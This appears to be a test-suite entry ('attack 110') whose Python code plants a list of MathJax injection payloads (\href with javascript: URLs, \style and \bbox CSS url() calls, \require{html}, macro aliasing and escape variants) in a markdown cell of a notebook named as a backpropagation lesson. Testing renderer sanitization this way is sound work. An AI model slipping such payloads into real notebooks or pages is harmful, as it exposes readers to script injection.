# attack: 110
# title: commands of MathJax that link and style, in a derivation
# success: one of them reaches MathJax
# kind: submission
# naive: shown
import json

TEXT = r"""$\href{javascript:alert(1)}{x}$ $$\style{background:url(//example.org)}{x}$$
$\class{a}{x} \cssId{b}{x} \require{html} \bbox[background:url(//example.org)]{x}$
$\let\h=\href \h{javascript:alert(1)}{x}$ $\mmlToken{mi}[href=javascript:alert(1)]{x}$
\begin{align} \href{javascript:alert(1)}{x} \end{align} \\(\href{javascript:alert(1)}{x}\\)
$&bsol;href{javascript:alert(1)}{x}$ \$\\href{javascript:alert(1)}{x}\$
"""


def build(folder, notebook):
    notebook["cells"].append({**code_cell(TEXT), "cell_type": "markdown", "id": "m"})
    (folder / "a07_backpropagation.ipynb").write_text(json.dumps(notebook))
